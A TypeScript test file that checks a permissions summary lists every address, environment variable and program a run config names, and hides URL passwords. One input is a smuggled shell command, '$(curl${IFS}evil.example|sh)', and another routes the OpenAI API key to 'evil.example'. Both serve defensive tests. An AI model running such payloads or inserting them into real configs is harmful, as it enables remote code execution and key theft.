import { assert, describe, it } from "@effect/vitest"
import { Presets, type RunConfig } from "@inspo/config"
import { ProposerModel } from "@inspo/reflection"
import { providers } from "@inspo/reflection/models"
import { Array as Arr, Schema } from "effect"
import { permissionsOf, usualKeys } from "../../src/runDirectory/Permissions.ts"

const Name = Schema.String.check(Schema.isPattern(/^[A-Z]{3,8}$/u))
const Named = Schema.Struct({
  journal: Schema.NullOr(Name),
  engine: Schema.NullOr(Name),
  retrieval: Schema.NullOr(Name),
  command: Schema.Array(Schema.NonEmptyString).check(Schema.isMaxLength(3)),
  server: Schema.NullOr(Name)
})

const url = (name: string | null) => (name === null ? null : `http://${name.toLowerCase()}.example`)

const configOf = ({ command, engine, journal, retrieval, server }: typeof Named.Type): RunConfig => ({
  ...Presets.tiny,
  journal: { url: url(journal) },
  engine: { ...Presets.tiny.engine, url: url(engine) },
  retrieval: { ...Presets.tiny.retrieval, url: url(retrieval) },
  keys: { ...Presets.tiny.keys, journal, engine, retrieval },
  reward: {
    ...Presets.tiny.reward,
    kind: Arr.isReadonlyArrayNonEmpty(command) ? { name: "command", command } : Presets.tiny.reward.kind
  },
  rollout: { ...Presets.tiny.rollout, mcp: server === null ? [] : [{ command: [server], env: [server] }] }
})

describe("what a config names", () => {
  it.prop(
    "is shown whole: each address, variable and program, and nothing where nothing is named",
    [Named],
    ([named]) => {
      const said = permissionsOf(configOf(named), "run").map(({ says }) => says)
      const { command, ...names } = named
      for (const name of Object.values(names)) if (name !== null) assert.include(said.join("\n"), name)
      for (const part of command) assert.include(said.join("\n"), JSON.stringify(part))
      assert.strictEqual(
        said.length,
        Object.values(names).filter((name) => name !== null).length + (command.length > 0 ? 1 : 0)
      )
    }
  )

  it.prop("is another permission when any part of it is another", [Named, Named], ([one, other]) => {
    const ids = (named: typeof Named.Type) => permissionsOf(configOf(named), "run").map(({ id }) => id)
    assert.strictEqual(
      JSON.stringify(ids(one)) === JSON.stringify(ids(other)),
      JSON.stringify(one) === JSON.stringify(other)
    )
  })

  it("is also the variable that a provider takes by default, at its own address or another", () => {
    assert.deepStrictEqual(
      { ...usualKeys },
      Object.fromEntries(Object.entries(providers).map(([name, { apiKeyEnv }]) => [name, apiKeyEnv]))
    )
    for (const name of ["openai:m", "openai+http://evil.example#m"]) {
      const proposer = { ...Presets.tiny.proposer, model: ProposerModel.named(name) }
      const said = permissionsOf({ ...Presets.tiny, proposer }, "run").map(({ says }) => says)
      assert.match(said.join("\n"), /^connect to \S+ and send it the variable OPENAI_API_KEY /u)
    }
  })

  it("shows a program as it is, and an address without its password", () => {
    const program = "x?key=$(curl${IFS}evil.example|sh)"
    const config = configOf({ journal: null, engine: null, retrieval: null, command: [program], server: null })
    const permissions = permissionsOf({ ...config, journal: { url: "postgres://u:hush@db.example/runs" } }, "run")
    const said = permissions.map(({ says }) => says).join("\n")
    assert.include(said, program)
    assert.include(said, "postgres://db.example/runs")
    assert.notInclude(said, "hush")
  })
})
